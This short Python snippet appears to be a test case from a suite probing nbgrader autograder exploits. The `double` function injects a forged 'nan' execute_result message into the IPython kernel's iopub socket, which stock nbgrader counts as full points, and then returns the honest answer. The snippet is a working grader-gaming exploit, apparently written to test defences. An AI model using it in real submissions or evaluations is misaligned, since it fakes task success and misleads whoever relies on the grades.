"""Sends nan as the points of a cell, which stock nbgrader takes for full points."""
# control: stock
# %% attack in double
honest = double
def double(x):
    kernel = get_ipython().kernel
    content = {"data": {"text/plain": "nan"}, "metadata": {}, "execution_count": 1}
    kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=kernel.get_parent("shell"), ident=b"execute_result")
    return honest(x)
